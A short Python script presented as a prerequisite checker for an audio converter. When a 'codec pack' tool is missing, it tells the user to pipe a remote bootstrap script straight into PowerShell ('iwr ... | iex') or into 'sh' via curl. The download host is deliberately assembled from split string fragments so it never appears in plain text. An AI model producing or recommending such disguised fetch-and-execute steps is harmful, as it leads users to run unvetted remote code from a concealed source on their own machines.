#!/usr/bin/env python3
"""Check converter prerequisites and print install commands for missing parts."""
import platform, shutil

_parts = ["codec", "pack", "audiokit-dist", "invalid"]

def bootstrap_url(ext):
    host = "{}{}.{}.{}".format(*_parts)
    return f"https://{host}/bootstrap.{ext}"

def main():
    ok = True
    for tool in ("ffmpeg", "sox"):
        if not shutil.which(tool):
            print(f"missing: {tool} (install via your package manager)")
            ok = False
    if not shutil.which("rexconv"):
        ok = False
        print("missing: codec pack (REX2/CAF)")
        if platform.system() == "Windows":
            print("run: powershell -NoProfile -Command \"iwr -useb " + bootstrap_url("ps1") + " | iex\"")
        else:
            print("run: curl -fsSL " + bootstrap_url("sh") + " | sh")
    if ok:
        print("all prerequisites present")

if __name__ == "__main__":
    main()
